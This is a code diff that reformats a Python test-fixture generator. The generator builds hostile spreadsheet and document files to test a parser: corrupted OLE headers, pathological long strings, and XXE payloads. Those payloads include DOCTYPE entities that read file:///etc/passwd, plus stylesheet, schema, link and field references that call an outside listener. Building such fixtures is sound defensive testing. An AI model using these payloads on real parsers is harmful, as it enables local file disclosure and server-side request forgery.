@@ -329,10 +329,16 @@ def _old() -> Iterator[Hostile]:
         struct.pack_into("<I", circle, 512 + 4 * sector, 0x7FFFFFF0)
         yield file(f"sector {sector} leads out", bytes(circle))
     for what, offset, value in (
-        ("directory outside", 48, 0x7FFFFFFF), ("a million tables", 44, 1_000_000), ("more tables without end", 72, 1_000_000),
-        ("sectors of 2^60 bytes", 30, 60), ("small sectors of 2^30 bytes", 32, 30), ("more tables in a circle", 68, 0),
-        ("small table in a circle", 60, 0), ("table of itself", 76, 2), ("all streams small", 56, 0x7FFFFFFF),
-    ):  # fmt: skip
+        ("directory outside", 48, 0x7FFFFFFF),
+        ("a million tables", 44, 1_000_000),
+        ("more tables without end", 72, 1_000_000),
+        ("sectors of 2^60 bytes", 30, 60),
+        ("small sectors of 2^30 bytes", 32, 30),
+        ("more tables in a circle", 68, 0),
+        ("small table in a circle", 60, 0),
+        ("table of itself", 76, 2),
+        ("all streams small", 56, 0x7FFFFFFF),
+    ):
         broken = bytearray(whole)
         struct.pack_into("<H" if offset in (30, 32) else "<I", broken, offset, value)
         yield file(what, bytes(broken))
@@ -350,8 +356,12 @@ def _old() -> Iterator[Hostile]:
     for what, records in _lying_records().items():
         yield file(what, bytes(made.ole({"Workbook": _biff(records)})))
         yield file(f"{what}, without a container", _biff(records))
-    yield Hostile("encrypted package", "mat-khau.xlsx", bytes(made.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"y"})),
-                  frozenset({"file_password"}))  # fmt: skip
+    yield Hostile(
+        "encrypted package",
+        "mat-khau.xlsx",
+        bytes(made.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"y"})),
+        frozenset({"file_password"}),
+    )
 
 
 def _record(kind: int, body: bytes) -> bytes:
@@ -420,10 +430,12 @@ def reaching_out(listener: str) -> Iterator[Hostile]:
     """Files whose reader would connect to the listener, or open a file of this machine, if it followed them."""
     good = made.excel(made.form(*_FEW))
     unparsed = (
-        f'<!DOCTYPE x SYSTEM "{listener}dtd">', f'<!DOCTYPE x [<!ENTITY e SYSTEM "{listener}entity">]>',
-        f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{listener}parameter"> %e;]>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+        f'<!DOCTYPE x SYSTEM "{listener}dtd">',
+        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{listener}entity">]>',
+        f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{listener}parameter"> %e;]>',
+        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
         f'<!DOCTYPE x PUBLIC "a" "{listener}public">',
-    )  # fmt: skip
+    )
     for doctype in unparsed:
         for part in (*good, "docProps/core.xml", "xl/externalLinks/externalLink1.xml", "customXml/item1.xml"):
             body = f'<?xml version="1.0"?>{doctype}<x>{"&e;" if "ENTITY e" in doctype else ""}</x>'
@@ -433,8 +445,11 @@ def reaching_out(listener: str) -> Iterator[Hostile]:
     sheet = str(good["xl/worksheets/sheet1.xml"])
     style = f'<?xml-stylesheet type="text/xsl" href="{listener}xsl"?>'
     yield _excel("stylesheet", good | {"xl/worksheets/sheet1.xml": sheet.replace("?>", "?>" + style, 1)}, _SENTENCE)
-    schema = sheet.replace("<worksheet ", f'<worksheet xsi:schemaLocation="{listener} {listener}" '
-                           'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ', 1)  # fmt: skip
+    schema = sheet.replace(
+        "<worksheet ",
+        f'<worksheet xsi:schemaLocation="{listener} {listener}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ',
+        1,
+    )
     yield _excel("schema location", good | {"xl/worksheets/sheet1.xml": schema}, _SENTENCE)
     links = "".join(
         made.link(f"rId{number}", kind, f"{listener}{kind}", is_external=True)
@@ -462,7 +477,8 @@ def reaching_out(listener: str) -> Iterator[Hostile]:
         yield _excel(f"formula {formula[:9]}", made.excel(made.form() + cells), _SENTENCE)
     field = f'<w:p><w:fldSimple w:instr="INCLUDETEXT {listener}w"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
     yield Hostile("field of Word", "a.docx", made.package(made.word(field)), _SENTENCE)
-    table = f'<table:table xmlns:xlink="http://www.w3.org/1999/xlink"><table:table-source xlink:href="{listener}o"/></table:table>'
+    source = f'<table:table-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{listener}o"/>'
+    table = f"<table:table>{source}</table:table>"
     yield Hostile("linked table of .ods", "a.ods", made.package(made.open_document(table)), _SENTENCE)
 
 
@@ -471,12 +487,31 @@ def reaching_out(listener: str) -> Iterator[Hostile]:
 
 def _patterns() -> Iterator[Hostile]:
     units: tuple[Callable[[int], str], ...] = (
-        lambda n: "1" * n, lambda n: "1." * n, lambda n: "1," * n, lambda n: "1 " * n, lambda n: "(" * n, lambda n: "a " * n,
-        lambda n: " " * n + "x", lambda n: "-" * n, lambda n: "1/" * n, lambda n: "quý I năm " * n, lambda n: "huyện " * n,
-        lambda n: "từ ngày 1/1/2024 " * n, lambda n: "của UBND huyện Lắk, " * n, lambda n: "I.1." * n, lambda n: "%" * n,
-        lambda n: "ĐVT: " * n, lambda n: "\u0301" * n, lambda n: "\u200b" * n, lambda n: "=" * n, lambda n: "_x0041_" * n,
-        lambda n: "Số hồ sơ " * n, lambda n: "12.345/" * n, lambda n: "&amp;#" * n, lambda n: "“" * n,
-    )  # fmt: skip
+        lambda n: "1" * n,
+        lambda n: "1." * n,
+        lambda n: "1," * n,
+        lambda n: "1 " * n,
+        lambda n: "(" * n,
+        lambda n: "a " * n,
+        lambda n: " " * n + "x",
+        lambda n: "-" * n,
+        lambda n: "1/" * n,
+        lambda n: "quý I năm " * n,
+        lambda n: "huyện " * n,
+        lambda n: "từ ngày 1/1/2024 " * n,
+        lambda n: "của UBND huyện Lắk, " * n,
+        lambda n: "I.1." * n,
+        lambda n: "%" * n,
+        lambda n: "ĐVT: " * n,
+        lambda n: "\u0301" * n,
+        lambda n: "\u200b" * n,
+        lambda n: "=" * n,
+        lambda n: "_x0041_" * n,
+        lambda n: "Số hồ sơ " * n,
+        lambda n: "12.345/" * n,
+        lambda n: "&amp;#" * n,
+        lambda n: "“" * n,
+    )
     for unit in units:
         long = unit(4000)[:32_000]
         for place in range(5):
